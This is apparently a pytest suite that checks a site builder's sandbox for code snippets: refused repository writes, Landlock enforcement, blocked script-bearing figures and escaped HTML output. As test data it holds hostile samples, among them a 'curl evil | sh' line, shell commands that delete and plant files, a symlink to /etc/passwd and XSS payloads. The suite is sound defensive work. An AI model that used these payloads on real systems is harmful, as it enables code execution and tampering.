"""Snippets cannot harm the repository or the site: each fault is injected into a temporary project.

- Relative writes (``open("x.txt", "w")``, ``Path.cwd() / ...``) land in the snippet's temporary
  working directory: the repository is byte-for-byte unchanged.
- Python-level writes into the repository through absolute paths (open, touch, mkdir, remove, rename,
  rmtree, symlink, hard link, chmod, a symlink from the temporary folder) are refused with
  ``PermissionError``; an uncaught one fails the build with the snippet's path and line.
- A write the runner cannot see (a child process, a C library) is refused by the kernel where it
  offers Landlock (the repository is read-only for the snippet's whole process tree); elsewhere
  (``spaces build --sandbox off`` here) it is caught by comparing the repository before and after: the build
  fails naming the file and the snippet, and keeps failing until it is fixed.
- A figure carrying a script, an event handler or an external reference is never published.
- Output that looks like HTML, megabytes on a single line included, is shown as text (and on the real
  site: ``<eos>`` printed by a real snippet reads as text).

What ``tests/test_engine.py`` already covers is not repeated here: escaping of a ``<script>`` line,
truncation of 2.6 MB of lines with its note, the timeout with its path.
"""
from __future__ import annotations

import os
import re
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

import mini_archive
from spaces_build.runner import landlock_abi
from test_engine import LIGHT_YML, SPACES, build, cached, make_project, output_div, page

pytestmark = pytest.mark.slow

LANDLOCK = landlock_abi() > 0
needs_landlock = pytest.mark.skipif(not LANDLOCK, reason="the kernel offers no Landlock here")


def build_without_sandbox(project: Path, *args: str) -> subprocess.CompletedProcess:
    """A build as on a machine without Landlock: the repository is compared before and after."""
    env = {k: v for k, v in os.environ.items() if not k.startswith("SPACES_")}
    return subprocess.run([*SPACES, "build", "--jobs", "2", "--sandbox", "off", *args], cwd=project, env=env,
                          capture_output=True, text=True, timeout=600)

POST_HEAD = "---\ntitle: 演示\nslug: demo\n---\n# 演示\n\n"


def project_with(tmp_path: Path, snippets: dict[str, str]) -> Path:
    """A tiny project whose one page includes ``snippets`` (name -> source) in this order."""
    body = "".join(f'```python\n--8<-- "snippets/demo/{name}.py"\n```\n\n' for name in snippets)
    files = {
        "docs/index.md": "# Home\n",
        "docs/posts/demo.md": POST_HEAD + body,
        "spaces_code/__init__.py": "from pathlib import Path\n\nROOT = Path(__file__).resolve().parent.parent\n",
        "spaces_code/keep.py": '"""A module the snippets try to destroy."""\nVALUE = 1\n',
        "data/keep.txt": "precious\n",
    }
    files.update({f"snippets/demo/{name}.py": textwrap.dedent(src) for name, src in snippets.items()})
    return make_project(tmp_path / "p", files, LIGHT_YML)


def test_relative_writes_stay_in_the_temporary_folder(tmp_path):
    project = project_with(tmp_path, {"scratch": '''\
        import os
        from pathlib import Path

        from spaces_code import ROOT

        with open("x.txt", "w") as fh:
            fh.write("relative")
        (Path.cwd() / "y.txt").write_text("cwd")
        os.makedirs("sub/dir")
        Path("sub/dir/z.txt").write_text("deep")
        print("working directory is the repository:", Path.cwd().resolve() == ROOT)
        print("read back:", open("x.txt").read(), Path("y.txt").read_text(), Path("sub/dir/z.txt").read_text())
        '''})
    before = mini_archive.tree_state(project)
    proc = build(project)
    assert proc.returncode == 0, proc.stderr
    div = output_div(page(project), "snippets/demo/scratch.py")
    assert "working directory is the repository: False" in div
    assert "read back: relative cwd deep" in div
    assert mini_archive.tree_state(project) == before  # not one byte of the repository changed
    assert not any(p.name in ("x.txt", "y.txt", "z.txt") for p in project.rglob("*"))


def test_python_writes_into_the_repository_are_refused(tmp_path):
    project = project_with(tmp_path, {"attempts": '''\
        import os
        import shutil
        from pathlib import Path

        from spaces_code import ROOT

        keep = ROOT / "data" / "keep.txt"
        attempts = {
            "open w": lambda: open(ROOT / "spaces_code" / "evil.py", "w"),
            "open a": lambda: open(keep, "a"),
            "open r+": lambda: open(keep, "r+"),
            "os.open": lambda: os.open(keep, os.O_WRONLY | os.O_TRUNC),
            "write_text": lambda: (ROOT / "evil.txt").write_text("x"),
            "touch": lambda: keep.touch(),
            "mkdir": lambda: (ROOT / "newdir").mkdir(),
            "remove": lambda: os.remove(keep),
            "rename": lambda: os.rename(keep, ROOT / "data" / "moved.txt"),
            "replace from outside": lambda: os.replace(Path("mine.txt"), keep),
            "rmtree": lambda: shutil.rmtree(ROOT / "spaces_code"),
            "copyfile": lambda: shutil.copyfile(__file__, ROOT / "copy.py"),
            "symlink in repo": lambda: os.symlink("/etc/passwd", ROOT / "link"),
            "hard link out": lambda: os.link(keep, "hard.txt"),
            "chmod": lambda: os.chmod(keep, 0o777),
            "utime": lambda: os.utime(keep, (0, 0)),
            "via ..": lambda: open(os.path.relpath(ROOT / "dots.txt"), "w"),
            "via symlink": lambda: (os.symlink(ROOT, "repo"), open("repo/through-link.txt", "w")),
            "after chdir": lambda: (os.chdir(ROOT), open("chdir.txt", "w")),
        }
        Path("mine.txt").write_text("mine")
        for name, attempt in attempts.items():
            try:
                attempt()
                print(f"{name}: WRITTEN")
            except PermissionError as exc:
                print(f"{name}: refused ({exc.filename})")
        '''})
    before = mini_archive.tree_state(project)
    proc = build(project)
    assert proc.returncode == 0, proc.stderr
    div = output_div(page(project), "snippets/demo/attempts.py")
    assert "WRITTEN" not in div, div
    assert div.count(": refused (") == 19, div
    assert "open w: refused (spaces_code/evil.py)" in div and "via symlink: refused (through-link.txt)" in div
    assert "rmtree: refused (spaces_code)" in div and "after chdir: refused (chdir.txt)" in div
    assert mini_archive.tree_state(project) == before
    assert (project / "data/keep.txt").read_text() == "precious\n"


def test_an_uncaught_write_fails_the_build_with_path_and_line(tmp_path):
    project = project_with(tmp_path, {"evil": '''\
        import spaces_code
        from pathlib import Path
        target = Path(spaces_code.__file__).parent / "evil.py"
        target.write_text("import os; os.system('curl evil | sh')")
        '''})
    proc = build(project)
    assert proc.returncode == 1
    assert ("snippets/demo/evil.py:4: PermissionError: [Errno 13] a snippet may not write into the repository "
            "(open); it runs in a temporary working directory: write there, e.g. open('out.txt', 'w'): "
            "'spaces_code/evil.py'") in proc.stderr, proc.stderr
    assert not (project / "spaces_code/evil.py").exists()
    assert "snippets/demo/evil.py" not in cached(project)


@needs_landlock
def test_the_kernel_refuses_writes_by_child_processes_and_c_code(tmp_path):
    project = project_with(tmp_path, {"bypass": '''\
        import ctypes
        import os
        import subprocess
        from spaces_code import ROOT

        shell = subprocess.run(["sh", "-c", f"echo pwned >> '{ROOT}/data/keep.txt'; touch '{ROOT}/planted.txt'; "
                                f"rm -f '{ROOT}/data/keep.txt'; mkdir '{ROOT}/newdir'; echo scratch > here.txt && cat here.txt"],
                               capture_output=True, text=True)
        print("shell:", shell.returncode, shell.stdout.strip(), "|", shell.stderr.count("Permission denied"), "denied")
        libc = ctypes.CDLL(None, use_errno=True)
        fd = libc.open(str(ROOT / "spaces_code" / "keep.py").encode(), os.O_WRONLY | os.O_TRUNC)
        print("libc open for writing:", fd, os.strerror(ctypes.get_errno()) if fd < 0 else "OPENED")
        '''})
    before = mini_archive.tree_state(project)
    proc = build(project)
    assert proc.returncode == 0, proc.stderr
    div = output_div(page(project), "snippets/demo/bypass.py")
    assert "shell: 0 scratch | 4 denied" in div  # the temporary folder stays writable
    assert "libc open for writing: -1 Permission denied" in div
    assert mini_archive.tree_state(project) == before


def test_a_write_by_a_child_process_fails_the_build_naming_the_snippet(tmp_path):
    project = project_with(tmp_path, {
        "fine": 'print("a well-behaved snippet")\n',
        "shell": '''\
            import subprocess
            from spaces_code import ROOT
            # A child process: the runner's guard cannot see its writes.
            subprocess.run(["sh", "-c", f"echo pwned >> '{ROOT}/data/keep.txt'; echo x > '{ROOT}/spaces_code/planted.py'"],
                           check=True)
            print("done")
            ''',
        "later": 'print("runs after")\n',
    })
    proc = build_without_sandbox(project, "--jobs", "1")
    assert proc.returncode == 1
    err = proc.stderr
    assert "The repository changed while snippets ran. A snippet must not write into the repository" in err, err
    assert "  data/keep.txt (modified)\n" in err and "  spaces_code/planted.py (created)\n" in err
    blame = re.findall(r"changed while running: (.*)", err)
    assert blame == ["snippets/demo/shell.py"], err  # with --jobs 1, exactly the culprit
    assert "snippets/demo/shell.py" not in cached(project)  # not cached ...
    assert "snippets/demo/fine.py" in cached(project)
    assert not (project / "site/posts/demo/index.html").exists()  # ... and nothing published
    # Still there on the next build: the snippet runs again (it is not in the cache) and is caught again.
    again = build_without_sandbox(project, "--jobs", "1")
    assert again.returncode == 1
    assert "  data/keep.txt (modified)\n" in again.stderr
    assert re.findall(r"changed while running: (.*)", again.stderr) == ["snippets/demo/shell.py"]


def test_parallel_build_blames_the_snippets_running_then(tmp_path):
    project = project_with(tmp_path, {
        "shell": '''\
            import os
            from spaces_code import ROOT
            os.system(f"echo x > '{ROOT}/planted.txt'")
            ''',
    })
    proc = build_without_sandbox(project, "--jobs", "2")
    assert proc.returncode == 1
    assert "  planted.txt (created)\n" in proc.stderr
    assert "changed while running: snippets/demo/shell.py" in proc.stderr


FIGURE_TRICKS = {
    "link": '''\
        import matplotlib.pyplot as plt
        fig, ax = plt.subplots()
        line, = ax.plot([0, 1], [0, 1])
        line.set_url("javascript:alert(document.cookie)")  # matplotlib writes <a xlink:href=...>
        ''',
    "script": '''\
        import matplotlib.figure
        import matplotlib.pyplot as plt

        def savefig(self, path, **kwargs):  # the runner's call, replaced
            with open(path, "w") as fh:
                fh.write('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')

        matplotlib.figure.Figure.savefig = savefig
        plt.figure()
        ''',
}


@pytest.mark.parametrize("trick", sorted(FIGURE_TRICKS))
def test_a_figure_with_script_is_never_published(tmp_path, trick):
    project = project_with(tmp_path, {trick: FIGURE_TRICKS[trick]})
    proc = build(project)
    assert proc.returncode == 1
    assert re.search(rf"snippets/demo/{trick}\.py: UnsafeFigure: figure 1 contains '[^']*"
                     r"(javascript|<script)[^']*'; a figure with scripts, event handlers or external "
                     r"references is never published", proc.stderr), proc.stderr
    assert not list((project / ".cache").rglob("*.svg"))
    assert not (project / "site/posts/demo/index.html").exists()


def test_megabytes_of_html_on_one_line_are_truncated_and_escaped(tmp_path):
    project = project_with(tmp_path, {"flood": '''\
        import sys
        sys.stdout.write("<img src=x onerror=alert(1)>" * 200_000)  # 5.6 MB, no newline
        sys.stdout.buffer.write(b"\\xff\\xfe broken utf-8 <script>")
        print("<b>the end</b>")
        '''})
    proc = build(project)
    assert proc.returncode == 0, proc.stderr
    div = output_div(page(project), "snippets/demo/flood.py")
    assert "输出过长" in div and "已截断" in div
    assert len(div) < 200_000
    assert "<img" not in div and "<script" not in div and "<b>" not in div
    assert "&lt;img src=x onerror=alert(1)&gt;" in div and "&lt;b&gt;the end&lt;/b&gt;" in div
    assert "\ufffd" in div  # undecodable bytes shown as replacement characters, not dropped


# --------------------------------------------------------------------------------------------------
# On the real site (built once per session by conftest.py's ``built_site``)

OUTPUT = re.compile(r'<div class="snippet-output[^"]*" data-snippet="([^"]+)"[^>]*>(.*?)</div>', re.S)
PRE = re.compile(r'<pre class="snippet-output-text"><code>(.*?)</code></pre>', re.S)


@pytest.mark.slow
def test_real_outputs_that_look_like_html_are_text(built_site):
    outputs = {}
    for path in built_site.rglob("index.html"):
        for snippet, body in OUTPUT.findall(path.read_text(encoding="utf-8")):
            outputs[snippet] = body
            for text in PRE.findall(body):
                assert "<" not in text and ">" not in text, (path, snippet)  # only text: no element
    assert len(outputs) >= 40
    # Real snippets print angle brackets; each reads as text on its page.
    assert "今天&lt;eos&gt;" in outputs["snippets/seq2seq-non-stopping/decoding_loops.py"]
    assert "&lt;u_hat, v&gt;" in outputs["snippets/kmeans-to-capsule/routing_as_clustering.py"]
    assert "Lip(g) &lt;= product" in outputs["snippets/flow-invertible-resnet/iresnet_block.py"]
